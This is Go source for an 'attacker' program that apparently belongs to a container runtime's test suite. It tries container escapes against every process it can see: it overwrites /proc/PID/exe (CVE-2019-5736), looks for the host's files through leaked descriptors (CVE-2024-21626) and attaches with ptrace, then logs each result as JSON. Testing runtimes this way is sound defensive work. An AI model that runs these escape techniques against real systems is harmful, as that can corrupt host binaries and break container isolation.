// Attacker goes for every other process that appears in its pid namespace: it tries to overwrite
// the program through /proc/PID/exe, to reach the host's files through its descriptors and working
// directory, and to trace it. It prints one JSON object for each kind of try and process whose
// result is new; "error" is empty where the try worked.
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
)

type result struct {
	PID   string `json:"pid"`
	Try   string `json:"try"`
	Path  string `json:"path"`
	Error string `json:"error"`
}

type attacker struct {
	mu   sync.Mutex
	out  *json.Encoder
	seen map[result]bool
	held map[string]bool // what is being worked on: programs by PID and path, traced processes
}

func main() {
	runtime.LockOSThread() // ptrace(2): the tracer is a thread
	end := make(chan os.Signal, 1)
	signal.Notify(end, syscall.SIGTERM, syscall.SIGINT)
	a := &attacker{out: json.NewEncoder(os.Stdout), seen: map[result]bool{}, held: map[string]bool{}}
	self := fmt.Sprint(os.Getpid())
	fmt.Println(`{"ready":true}`)
	for {
		select {
		case <-end:
			return
		default:
		}
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			if pid := filepath.Base(dir); pid != self {
				a.attack(pid)
			}
		}
	}
}

func (a *attacker) attack(pid string) {
	dir := "/proc/" + pid
	a.overwrite(pid, dir+"/exe")
	a.reach(pid, dir+"/cwd")
	a.reach(pid, dir+"/root")
	fds, _ := filepath.Glob(dir + "/fd/*")
	for _, fd := range fds {
		a.reach(pid, fd)
	}
	a.trace(pid)
}

func (a *attacker) note(pid, try, path string, err error) {
	r := result{PID: pid, Try: try, Path: path}
	if err != nil {
		r.Error = err.Error()
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if !a.seen[r] {
		a.seen[r] = true
		_ = a.out.Encode(r)
	}
}

// overwrite tries to open the program until after its end:
// while it runs it can not be written (CVE-2019-5736).
func (a *attacker) overwrite(pid, exe string) {
	name, err := os.Readlink(exe)
	if err != nil || a.held[pid+name] {
		return
	}
	hold, err := os.Open(exe)
	if err != nil {
		return // it ended
	}
	a.held[pid+name] = true
	go func() {
		defer func() { _ = hold.Close() }()
		path := fmt.Sprintf("/proc/self/fd/%d", hold.Fd())
		err := write(path)
		for end := time.Now().Add(10 * time.Second); err != nil && time.Now().Before(end); err = write(path) {
			runtime.Gosched()
		}
		a.note(pid, "overwrite", name, err)
	}()
}

func write(path string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return err
	}
	_, err = io.WriteString(f, "#!/attacker\n")
	_ = f.Close()
	return err
}

// reach looks above a folder that the process holds for
// the host's file of DLX_TEST_HOST_FILE (CVE-2024-21626).
func (a *attacker) reach(pid, path string) {
	marker := os.Getenv("DLX_TEST_HOST_FILE")
	if marker == "" {
		return
	}
	if _, err := os.Stat(path + strings.Repeat("/..", 20) + marker); err == nil {
		a.note(pid, "reach", path, nil)
	}
}

// trace tries to attach; a process that it can trace gives it all its privileges. One success is
// enough, and lets go.
func (a *attacker) trace(pid string) {
	n, err := strconv.Atoi(pid)
	if err != nil || n == 1 || a.held["trace "+pid] {
		return
	}
	if err := syscall.PtraceAttach(n); err != nil {
		a.note(pid, "trace", "", err)
		return
	}
	a.held["trace "+pid] = true
	a.note(pid, "trace", "", nil)
	for {
		var status syscall.WaitStatus
		if _, err := syscall.Wait4(n, &status, syscall.WALL, nil); !errors.Is(err, syscall.EINTR) {
			break
		}
	}
	if err := syscall.PtraceDetach(n); err != nil {
		a.note(pid, "detach", "", err)
	}
	// The stop may have been another signal's. Then that of PTRACE_ATTACH still comes.
	_ = syscall.Kill(n, syscall.SIGCONT)
}
